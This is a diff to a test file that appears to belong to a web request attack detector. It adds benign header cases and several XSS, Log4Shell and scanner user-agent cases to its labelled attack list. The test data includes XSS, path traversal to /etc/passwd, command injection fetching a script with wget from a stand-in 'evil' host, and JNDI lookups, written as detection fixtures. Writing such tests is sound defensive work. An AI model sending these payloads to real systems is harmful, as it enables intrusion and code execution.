@@ -67,6 +67,11 @@ BENIGN = [
     ("/api/login", "", FORM, b"username=jane&password=p%40ss%27word%21"),
     ("/api/login", "", [], b"username=jane&password=secret"),
     ("/api/upload", "", [("content-type", "text/csv")], b"id,name\n1,Widget (blue)\n2,Gadget\n"),
+    # an HTTP library is a customer's program, not an attack tool; URLs as Referers
+    ("/api/x", "", [("user-agent", "python-requests/2.31.0"), ("user-agent", "curl/8.5.0")], b""),
+    ("/api/x", "", [("referer", "https://shop.example/products/a-b_c(1)?x=1&ls")], b""),
+    ("/api/x", "", [("referer", "android-app://com.google.android.gm/")], b""),
+    ("/api/x", "", [("referer", "https://x/p?q=%3Cb%3Ehi%3C/b%3E#top")], b""),
 ]
 
 
@@ -91,6 +96,11 @@ ATTACKS = [
     ("/api/x", "", [("referer", "https://x/?q=%3Csvg/onload=alert(1)%3E")], b"", {"xss"}),
     ("/api/x", "", [("user-agent", "<script>alert(1)</script>")], b"", {"xss"}),
     ("/api/comments", "", JSON, b'{"body": "<iframe src=javascript:alert(1)>"}', {"xss"}),
+    # ... anywhere in the Referer, not only its query (issue 12: these passed the graylist)
+    ("/api/x", "", [("referer", "https://shop.example/<script>alert(1)</script>")], b"",
+     {"xss"}),
+    ("/api/x", "", [("referer", "https://x/%3Csvg%20onload%3Dalert(1)%3E")], b"", {"xss"}),
+    ("/api/x", "", [("referer", "https://x/#<img src=x onerror=alert(1)>")], b"", {"xss"}),
     # path traversal
     ("/download", "file=../../../../etc/passwd", [], b"", {"path_traversal"}),
     ("/../../etc/passwd", "", [], b"", {"path_traversal", "scanner_probe"}),
@@ -103,7 +113,8 @@ ATTACKS = [
     ("/ping", "host=`id`", [], b"", {"cmd_injection"}),
     ("/ping", "host=x%26%26wget%20http://evil/x.sh", [], b"", {"cmd_injection"}),
     ("/ping", "host=x;${IFS}cat${IFS}/etc/hosts", [], b"", {"cmd_injection", "path_traversal"}),
-    ("/", "", [("user-agent", "${jndi:ldap://evil/a}")], b"", {"cmd_injection"}),
+    # (an exploit sent as the agent is also an attack tool's agent)
+    ("/", "", [("user-agent", "${jndi:ldap://evil/a}")], b"", {"cmd_injection", "scanner_probe"}),
     ("/", "", [("x-api-version", "${${lower:j}ndi:ldap://evil/a}")], b"", {"cmd_injection"}),
     ("/", "", [("x-api-version", "%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")], b"", {"cmd_injection"}),
     ("/", "q=${jndi:dns://evil/a}", [], b"", {"cmd_injection"}),
@@ -119,6 +130,14 @@ ATTACKS = [
     ("/.env", "", [], b"", {"scanner_probe"}),
     ("/wp-login.php", "", [], b"", {"scanner_probe"}),
     ("/phpmyadmin/index.php", "", BROWSER_HEADERS, b"", {"scanner_probe"}),
+    # an attack tool's own agent, on any path (issue 12: sqlmap passed the graylist)
+    ("/api/items", "id=1", [("user-agent", "sqlmap/1.7")], b"", {"scanner_probe"}),
+    ("/api/items", "", [("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"",
+     {"scanner_probe"}),
+    ("/", "", [("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
+                              "https://nmap.org/book/nse.html)")], b"", {"scanner_probe"}),
+    ("/", "", [("user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")],
+     b"", {"scanner_probe"}),
 ]
 
 
